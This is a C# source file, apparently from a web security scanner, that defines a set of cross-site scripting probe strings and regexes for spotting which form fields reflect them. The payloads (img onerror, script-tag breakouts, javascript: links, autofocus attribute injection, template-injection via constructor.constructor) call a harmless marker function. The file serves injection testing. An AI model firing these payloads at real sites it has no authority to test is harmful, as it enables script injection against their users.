using System.Text.RegularExpressions;

namespace Ledgerline.Attacks.Scripting;

/// <summary>
/// Words that would run, or become markup, where a page gave them on as they are: each calls <c>pwn</c>, and each of its elements carries <see cref="Sign"/>. All are shorter than the
/// hundred letters that a name may have. Whatever a page does with them, <see cref="Mark"/> and the number of the field stay legible.
/// </summary>
internal static partial class Payloads
{
    public const string Mark = "pwn";

    /// <summary>The attribute of every element that is of our making.</summary>
    public const string Sign = "data-pwn";

    private static readonly string[] Texts =
    [
        "\"'><img data-pwn src=x onerror=pwn(N)>pwnNe",
        "pwnNe</textarea></title></script></style><script data-pwn>pwn(N)</script>",
        "javascript:pwn(N)//pwnNe",
        "[pwnNe](javascript:pwn(N)) ![x](x\"onerror=pwn(N)) <svg data-pwn onload=pwn(N)>",
        "pwnNe' onfocus=pwn(N) autofocus data-pwn x=\" onfocus=pwn(N) autofocus data-pwn y=\"",
        "{{constructor.constructor('pwn(N)')()}}${pwn(N)}&lt;img data-pwn onerror=pwn(N) src&gt;pwnNe",
    ];

    public static int Count => Texts.Length;

    /// <param name="kind">Which of them, from 0; beyond the last it begins anew.</param>
    /// <param name="number">The field's.</param>
    public static string Of(int kind, int number) => Texts[kind % Texts.Length].Replace("N", number.ToString(System.Globalization.CultureInfo.InvariantCulture), StringComparison.Ordinal);

    /// <summary>The fields of which something stands in a text.</summary>
    public static IEnumerable<int> NumbersIn(string text) => Numbers().Matches(text).Select(match => int.Parse(match.Groups[1].Value, System.Globalization.CultureInfo.InvariantCulture)).Distinct();

    /// <summary>Which payloads, and of which fields, stand in a text.</summary>
    public static IEnumerable<string> In(string text) => Pieces().Matches(text).Select(match => match.Value).Distinct();

    [GeneratedRegex("(.{4}pwn\\([0-9]+\\)|pwn[0-9]+e.{4})")]
    private static partial Regex Pieces();

    [GeneratedRegex("pwn([0-9]+)e")]
    private static partial Regex Numbers();
}
